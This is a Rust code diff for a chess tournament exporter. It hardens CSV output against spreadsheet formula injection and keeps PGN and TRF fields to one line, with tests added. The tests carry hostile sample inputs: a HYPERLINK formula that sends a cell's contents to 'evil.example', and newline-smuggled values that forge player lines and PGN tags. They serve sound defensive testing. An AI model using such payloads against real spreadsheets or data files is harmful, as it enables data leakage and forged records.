@@ -192,13 +192,20 @@ pub fn trf(event: &Event) -> String {
     t.to_trf_string()
 }
 
+/// A PGN tag value (PGN Standard §8.1.1): `\` and `"` escaped, and a control character
+/// or line separator written as a space, as `flagfall_game::pgn::tag_value` does: the
+/// input rules ([`crate::text`]) keep newlines out of an event, but a file stored before
+/// them or edited by hand may hold one, and it must not end the tag.
 fn pgn_escape(s: &str) -> String {
-    s.replace('\\', "\\\\").replace('"', "\\\"")
+    crate::text::one_line(s)
+        .replace('\\', "\\\\")
+        .replace('"', "\\\"")
 }
 
+/// The PGN `Date` tag: the event's date when it is one (`YYYY.MM.DD`), else unknown.
 fn pgn_date(date: Option<&str>) -> String {
-    match date {
-        Some(d) if d.len() == 10 => d.replace('-', "."),
+    match date.map(|d| crate::text::date("date", d)) {
+        Some(Ok(d)) => d.replace('-', "."),
         _ => "????.??.??".into(),
     }
 }
@@ -285,19 +292,41 @@ pub fn pgn(event: &Event) -> String {
     out
 }
 
-fn csv_field(s: &str) -> String {
-    if s.contains([',', '"', '\n', '\r']) {
+/// A text cell of a CSV file (a name), neutralised against formula injection as
+/// OWASP's "CSV Injection" page says: a value that a spreadsheet would read as a formula
+/// (beginning, after any blanks, with `=`, `+`, `-` or `@`, or beginning with a tab,
+/// carriage return or another control character) is written quoted with a single quote
+/// in front of it inside the quotes (`"'=1+2"`), so Excel, LibreOffice and Google Sheets
+/// show it as text. A value holding `,`, `;` (the separator of spreadsheets in many
+/// locales), `"` or a line end is quoted too (RFC 4180, `"` doubled), so no part of it
+/// can start a cell of its own; other values are written as they are. Numbers are never
+/// written through this: [`csv_number`].
+pub fn csv_text(s: &str) -> String {
+    let formula = matches!(s.trim_start().chars().next(), Some('=' | '+' | '-' | '@'))
+        || s.chars().next().is_some_and(char::is_control);
+    if formula {
+        format!("\"'{}\"", s.replace('"', "\"\""))
+    } else if s.contains([',', ';', '"', '\n', '\r']) {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
         s.to_string()
     }
 }
 
-/// Standings as CSV: `rank,number,name,rating,points,<one column per tiebreak>`.
+/// A number cell of a CSV file, written as the number it is (`-12`, `3.5`): a negative
+/// tiebreak or rating change stays a number a spreadsheet can add up.
+pub fn csv_number(n: impl std::fmt::Display) -> String {
+    n.to_string()
+}
+
+/// Standings as CSV: `rank,number,name,rating,points,<one column per tiebreak>`. The
+/// name is the one text cell ([`csv_text`]: quoted, a formula neutralised); the others
+/// are numbers ([`csv_number`]), a tiebreak's negative value included (`PN` is `-12`
+/// for player 12).
 pub fn standings_csv(event: &Event, standings: &Standings) -> String {
     let mut out = String::from("rank,number,name,rating,points");
     for tb in &standings.tiebreaks {
-        let _ = write!(out, ",{}", csv_field(&tb.to_string()));
+        let _ = write!(out, ",{}", csv_text(&tb.to_string()));
     }
     out.push('\n');
     for row in &standings.rows {
@@ -305,14 +334,14 @@ pub fn standings_csv(event: &Event, standings: &Standings) -> String {
         let _ = write!(
             out,
             "{},{},{},{},{}",
-            row.rank,
-            p.id,
-            csv_field(&p.name),
-            p.rating.map(|r| r.to_string()).unwrap_or_default(),
-            row.score
+            csv_number(row.rank),
+            csv_number(p.id),
+            csv_text(&p.name),
+            p.rating.map(csv_number).unwrap_or_default(),
+            csv_number(row.score)
         );
         for v in &row.values {
-            let _ = write!(out, ",{}", v.map(|v| v.to_string()).unwrap_or_default());
+            let _ = write!(out, ",{}", v.map(csv_number).unwrap_or_default());
         }
         out.push('\n');
     }
@@ -499,4 +528,164 @@ pub fn round_text(event: &Event, round: u32) -> Result<String, EventError> {
         );
     }
     Ok(out)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::change::{Change, Origin};
+    use crate::event::NewPlayer;
+
+    const HOSTILE: [&str; 6] = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+        "+1+2",
+        "-3+4",
+        "@SUM(A1:A9)",
+        "Ann;=1+1",
+        "José Núñez-Müller",
+    ];
+
+    fn event() -> Event {
+        let mut e = Event::new("Open, \"A\"", Format::Swiss, Some(3)).unwrap();
+        for (i, name) in HOSTILE.iter().enumerate() {
+            e.add_player(NewPlayer {
+                name: (*name).into(),
+                rating: Some(2000 - 10 * i as u32),
+                ..NewPlayer::default()
+            })
+            .unwrap();
+        }
+        e.set_tiebreaks("TPN,BH").unwrap();
+        let o = Origin::new("director", 0);
+        e.apply(Change::PairNext, &o).unwrap();
+        for b in 1..=3 {
+            e.apply(
+                Change::SetResults {
+                    round: 1,
+                    board: b,
+                    results: vec![RecordedResult::WhiteWins],
+                },
+                &o,
+            )
+            .unwrap();
+        }
+        e
+    }
+
+    /// Reads one CSV line the way RFC 4180 does (for the test: quoted cells, `""`).
+    fn cells(line: &str) -> Vec<String> {
+        let mut out = vec![String::new()];
+        let mut quoted = false;
+        let mut chars = line.chars().peekable();
+        while let Some(c) = chars.next() {
+            match (c, quoted) {
+                ('"', true) if chars.peek() == Some(&'"') => {
+                    chars.next();
+                    out.last_mut().unwrap().push('"');
+                }
+                ('"', _) => quoted = !quoted,
+                (',', false) => out.push(String::new()),
+                (c, _) => out.last_mut().unwrap().push(c),
+            }
+        }
+        out
+    }
+
+    #[test]
+    fn csv_neutralises_formulas_and_keeps_numbers() {
+        assert_eq!(csv_text("=1+2"), "\"'=1+2\"");
+        assert_eq!(csv_text("  =1+2"), "\"'  =1+2\"");
+        assert_eq!(
+            csv_text("-12"),
+            "\"'-12\"",
+            "a name is text, even one like a number"
+        );
+        assert_eq!(csv_text("\tx"), "\"'\tx\"");
+        assert_eq!(csv_text("\rx"), "\"'\rx\"");
+        assert_eq!(csv_text("a;b"), "\"a;b\"");
+        assert_eq!(csv_text("Ann"), "Ann");
+        assert_eq!(csv_number(-12), "-12");
+        let e = event();
+        let st = e.standings(None, None).unwrap();
+        let csv = standings_csv(&e, &st);
+        let mut lines = csv.lines();
+        assert_eq!(lines.next(), Some("rank,number,name,rating,points,TPN,BH"));
+        let mut seen = Vec::new();
+        for line in lines {
+            let c = cells(line);
+            assert_eq!(c.len(), 7, "{line}");
+            let number: u32 = c[1].parse().unwrap();
+            // TPN is minus the pairing number: a negative number, written as one.
+            assert_eq!(c[5], format!("-{number}"), "{line}");
+            assert!(c[5].parse::<i64>().is_ok());
+            let name = &c[2];
+            let original = e.player(number).unwrap().name.clone();
+            if matches!(original.chars().next(), Some('=' | '+' | '-' | '@')) {
+                assert_eq!(name, &format!("'{original}"), "{line}");
+                assert!(
+                    line.contains(",\"'"),
+                    "quoted with the quote inside: {line}"
+                );
+            } else {
+                assert_eq!(name, &original, "{line}");
+            }
+            seen.push(original);
+        }
+        seen.sort();
+        let mut all: Vec<String> = HOSTILE.iter().map(|s| s.to_string()).collect();
+        all.sort();
+        assert_eq!(seen, all);
+    }
+
+    #[test]
+    fn trf_of_hostile_text_reads_back_through_the_pairing_parser() {
+        let mut e = event();
+        e.set_site(Some("Reno \"NV\"")).unwrap();
+        e.set_date(Some("2026-11-28")).unwrap();
+        let text = trf(&e);
+        let back = Trf::parse(&text).expect("flagfall-pairing reads it");
+        assert_eq!(back.players.len(), HOSTILE.len());
+        for p in &e.players {
+            let q = back.player(p.id).unwrap();
+            // The name field is 33 characters: a longer name is cut there.
+            let column: String = p.name.chars().take(33).collect();
+            assert_eq!(q.name, column.trim_end());
+            assert_eq!(q.rating, p.rating);
+        }
+        // Old data with a newline (before the input rules) still makes one line each.
+        let mut old = e.clone();
+        old.site = Some("Reno\n001   99      Fake".into());
+        old.report.chief_arbiter = Some("X\r\n001   98      Fake".into());
+        old.players[0].name = "Ann\n001   97      Fake".into();
+        let back = Trf::parse(&trf(&old)).expect("reads");
+        assert_eq!(back.players.len(), HOSTILE.len());
+        assert!(back.players.iter().all(|p| p.number < 90));
+    }
+
+    #[test]
+    fn pgn_tags_stay_tags() {
+        let mut e = event();
+        e.set_site(Some("Reno \\ \"NV\"")).unwrap();
+        let text = pgn(&e);
+        assert!(text.contains("[Site \"Reno \\\\ \\\"NV\\\"\"]"), "{text}");
+        assert!(text.contains("[Event \"Open, \\\"A\\\"\"]"), "{text}");
+        // Old data with a newline: the tag stays one line.
+        let mut old = e.clone();
+        old.site = Some("Reno\"]\n[White \"Fake\"]".into());
+        old.date = Some("2026-1\n[X".into());
+        let text = pgn(&old);
+        for line in text.lines().filter(|l| l.starts_with('[')) {
+            assert!(line.ends_with("\"]"), "{line}");
+        }
+        assert!(
+            !text.lines().any(|l| l.starts_with("[White \"Fake")),
+            "{text}"
+        );
+        assert!(text.contains("[Date \"????.??.??\"]"));
+        assert_eq!(
+            text.lines().filter(|l| l.starts_with("[White ")).count(),
+            3,
+            "one White tag per game: {text}"
+        );
+    }
 }
